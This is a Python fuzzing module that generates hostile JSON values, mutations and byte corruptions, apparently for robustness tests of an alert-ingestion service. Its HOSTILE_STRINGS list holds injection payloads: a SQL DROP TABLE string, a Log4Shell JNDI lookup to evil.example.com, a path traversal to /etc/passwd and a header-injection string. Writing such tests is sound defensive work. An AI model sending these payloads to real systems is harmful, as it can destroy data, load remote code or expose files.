"""Hostile values and JSON mutations, drawn from a seeded `random.Random` so every run can be repeated.

A mutation takes a JSON document (dicts, lists, scalars) and returns a changed deep copy: a value of
the wrong type, a key removed, a NUL or other control character inside a string, a huge number, deep
nesting, an out-of-range timestamp. Byte-level corruption (invalid UTF-8, truncation, a BOM, raw
control bytes) is applied to the encoded body afterwards.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable
from typing import Any

import orjson

JSON = Any
Path = tuple[str | int, ...]

HOSTILE_STRINGS: tuple[str, ...] = (
    "", " ", "\u0000", "a\u0000b", "\u0000" * 64, "title\u0000with NUL", "\x07\x1b[31mred\x1b[0m\x7f",
    "\r\n\r\nX-Injected: 1", "\ufeff", "\ud800", "lone \udfff surrogate", "\u202egnp.exe", "\U0001d573" * 300,
    "é" * 5000, "A" * 20_000,
    "<!channel> <https://evil.example.com|click> x|y>", "&lt;&amp;", "'; DROP TABLE ingest.deliveries; --",
    "%s%s%s%n", "{0.__class__}", "${jndi:ldap://evil.example.com/a}", "../../../../etc/passwd",
    "javascript:alert(1)", "null", "true", "[]", "{}", "-1", "1e309", "NaN", "0x7fffffff",
    "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "10000-01-01T00:00:00Z", "2024-13-45T25:61:61Z",
    "1970-01-01T00:00:00Z", "-62135596800", "99999999999999999999", "firing", "resolved", "trigger",
)
HOSTILE_NUMBERS: tuple[JSON, ...] = (
    0, -1, 1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 2**64, 10**30, -(10**30), 1e308, -1e308,
    5e-324, 0.5, -0.0, 253402300799, 253402300800, 253402300799999, -62135596801,
)
# Timestamps PostgreSQL can store but Python cannot read back, and ones neither can.
HOSTILE_TIMES: tuple[JSON, ...] = (
    "9999-12-31T23:59:59-23:59", "9999-12-31T23:59:59.999999-14:00", "0001-01-01T00:00:00+14:00",
    "0001-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "2024-02-30T00:00:00Z", "2024-01-01T00:00:00+99:00",
    "2024-01-01", "yesterday", "", "253402300800", "-1", 253402300800, 253402300799999, 10**20, -(10**12),
    1e308, 0, True, None, [], {},
)
MAX_DOCUMENT_BYTES = 400_000  # mutations stay below the body limit: oversize bodies are cases of their own
MANY_ITEMS_BYTES = 200_000  # a list repeated stays below this: the size limit has cases of its own
TIME_KEYS = ("time", "date", "At", "_at", "timestamp", "Timestamp", "started", "ended", "updated")


def deep_nesting(rng: random.Random, leaf: JSON = 1) -> JSON:
    """A list or object nested 50 to 3,000 levels deep (parsers commonly stop at 1,024)."""
    value = leaf
    for _ in range(rng.choice((50, 600, 1100, 3000))):
        value = [value] if rng.random() < 0.5 else {"a": value}
    return value


def hostile_value(rng: random.Random) -> JSON:
    kind = rng.random()
    if kind < 0.40:
        return rng.choice(HOSTILE_STRINGS)
    if kind < 0.60:
        return rng.choice(HOSTILE_NUMBERS)
    if kind < 0.70:
        return rng.choice((True, False, None))
    if kind < 0.80:
        return rng.choice(([], {}, [None], [""], {"": ""}, {"\u0000": "\u0000"}, ["\u0000"] * 3))
    if kind < 0.87:
        return rng.choice(HOSTILE_TIMES)
    if kind < 0.93:
        return {f"k{i}\u0000": rng.choice(HOSTILE_STRINGS[:10]) for i in range(rng.choice((5, 100, 2000)))}
    return deep_nesting(rng, rng.choice(("\u0000", 1, None)))


def paths(document: JSON, prefix: Path = (), depth: int = 0) -> list[Path]:
    """Every path to a node of `document` (the root is `()`), to a depth of 12."""
    found = [prefix]
    if depth >= 12:
        return found
    if isinstance(document, dict):
        for key, value in document.items():
            found.extend(paths(value, (*prefix, key), depth + 1))
    elif isinstance(document, list):
        for index, value in enumerate(document[:20]):
            found.extend(paths(value, (*prefix, index), depth + 1))
    return found


def _get(document: JSON, path: Path) -> JSON:
    for step in path:
        document = document[step]
    return document


def _set(document: JSON, path: Path, value: JSON) -> JSON:
    if not path:
        return value
    _get(document, path[:-1])[path[-1]] = value
    return document


def _delete(document: JSON, path: Path) -> JSON:
    """`document` without the node at `path` (not the root)."""
    del _get(document, path[:-1])[path[-1]]
    return document


def _with_control_character(text: str, rng: random.Random) -> str:
    at = rng.randint(0, len(text))
    return text[:at] + rng.choice(("\u0000", "\u0000\u0000", "\x01", "\x1f", "\x7f", "\x0b", "\u0085")) + text[at:]


def _mutate_once(document: JSON, rng: random.Random) -> tuple[JSON, str]:
    every = paths(document)
    path = rng.choice(every)
    operation = rng.random()
    if operation < 0.30:
        return _set(document, path, hostile_value(rng)), "wrong-value"
    if operation < 0.45:
        keyed = [p for p in every if p]
        if keyed:
            return _delete(document, rng.choice(keyed)), "missing-field"
        return _set(document, (), hostile_value(rng)), "wrong-root"
    if operation < 0.65:
        strings = [p for p in every if isinstance(_get(document, p), str)]
        if strings:
            target = rng.choice(strings)
            return _set(document, target, _with_control_character(_get(document, target), rng)), "nul-in-text"
        return _set(document, path, "\u0000"), "nul-in-text"
    if operation < 0.75:
        timed = [p for p in every if p and isinstance(p[-1], str) and any(k in p[-1] for k in TIME_KEYS)]
        target = rng.choice(timed) if timed else path
        return _set(document, target, rng.choice(HOSTILE_TIMES)), "hostile-time"
    if operation < 0.82:
        containers = [p for p in every if isinstance(_get(document, p), dict)]
        if containers:
            parent = _get(document, rng.choice(containers))
            parent[rng.choice(("\u0000", "extra", "__proto__", "x" * 300, "alerts", "data"))] = hostile_value(rng)
            return document, "extra-field"
        return _set(document, path, deep_nesting(rng)), "deep-nesting"
    if operation < 0.88:
        return _set(document, path, deep_nesting(rng)), "deep-nesting"
    if operation < 0.94:
        lists = [p for p in every if isinstance(_get(document, p), list) and _get(document, p)]
        if lists:
            target = rng.choice(lists)
            items = _get(document, target)
            times = rng.choice((10, 100))
            if _size(items) * times < MANY_ITEMS_BYTES:
                return _set(document, target, items * times), "many-items"
            return _set(document, target, items * 2), "many-items"
        return _set(document, path, [hostile_value(rng)] * 200), "many-items"
    return _set(document, path, rng.choice(HOSTILE_NUMBERS)), "huge-number"


def mutate(document: JSON, rng: random.Random, rounds: int | None = None) -> tuple[JSON, list[str]]:
    """A deep copy of `document` changed by 1 to 3 mutations, and what they were; never over
    MAX_DOCUMENT_BYTES encoded (repeated list items share one object, which a later mutation may grow)."""
    for _ in range(5):
        changed = copy.deepcopy(document)
        done: list[str] = []
        for _ in range(rounds if rounds is not None else rng.choice((1, 1, 1, 2, 3))):
            changed, what = _mutate_once(changed, rng)
            done.append(what)
        if _size(changed) <= MAX_DOCUMENT_BYTES:
            return changed, done
    return copy.deepcopy(document), ["as-sent"]


def encode(document: JSON, rng: random.Random) -> bytes:
    """JSON text as senders write it: raw UTF-8 (orjson, fast) or ASCII-escaped. What orjson refuses
    goes through the json module: lone surrogates (escaped, `\\ud800`), integers beyond 64 bits,
    non-finite floats (as `NaN`/`Infinity`, which is not JSON); a document nested too deep for either
    becomes 5,000 open brackets."""
    if rng.random() < 0.6:
        try:
            return orjson.dumps(document)
        except (orjson.JSONEncodeError, TypeError):
            pass
    try:
        return json.dumps(document, ensure_ascii=True, allow_nan=True).encode()
    except (RecursionError, ValueError):
        return b"[" * 5000 + b"]" * 5000


def _size(document: JSON) -> int:
    try:
        return len(orjson.dumps(document))
    except (orjson.JSONEncodeError, TypeError):
        try:
            return len(json.dumps(document, allow_nan=True))
        except (RecursionError, ValueError):
            return 10_000


BYTE_CORRUPTIONS: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "invalid-utf8": lambda b, r: _insert(b, r, r.choice((b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80",
                                                           b"\xc0\x80"))),
    "raw-nul-byte": lambda b, r: _insert(b, r, b"\x00"),
    "truncated": lambda b, r: b[: r.randint(0, max(len(b) - 1, 0))],
    "bom": lambda b, r: b"\xef\xbb\xbf" + b,
    "utf16": lambda b, r: b.decode("utf-8", "replace").encode("utf-16"),
    "empty": lambda b, r: b"",
    "whitespace": lambda b, r: b" \n\t\r ",
    "garbage": lambda b, r: r.randbytes(r.choice((1, 16, 512, 4096))),
    "not-json": lambda b, r: r.choice((b"hello", b"<xml/>", b"a=1&b=2", b"--x\r\nContent-Disposition: form-data\r\n",
                                       b"\x1f\x8b\x08\x00gzip?", b"NaN", b"[1,]", b"{'a': 1}", b"{\"a\":1}{\"b\":2}")),
    "raw-control-in-string": lambda b, r: b.replace(b'":"', b'":"\x01\x00', 1) if b'":"' in b else b + b"\x00",
}


def _insert(body: bytes, rng: random.Random, junk: bytes) -> bytes:
    at = rng.randint(0, len(body))
    return body[:at] + junk + body[at:]


def corrupt(body: bytes, rng: random.Random) -> tuple[bytes, str]:
    name = rng.choice(tuple(BYTE_CORRUPTIONS))
    return BYTE_CORRUPTIONS[name](body, rng), name


def oversize(body: bytes, limit: int, rng: random.Random) -> bytes:
    """A JSON body just or far over `limit` bytes: padding inside a string, so it stays valid JSON."""
    target = limit + rng.choice((1, 1024, 65_536))
    pad = max(target - len(body) - 16, 1)
    if body.startswith(b"{") and len(body) > 2:
        return b'{"padding":"' + b"x" * pad + b'",' + body[1:]
    return b'{"padding":"' + b"x" * pad + b'"}'
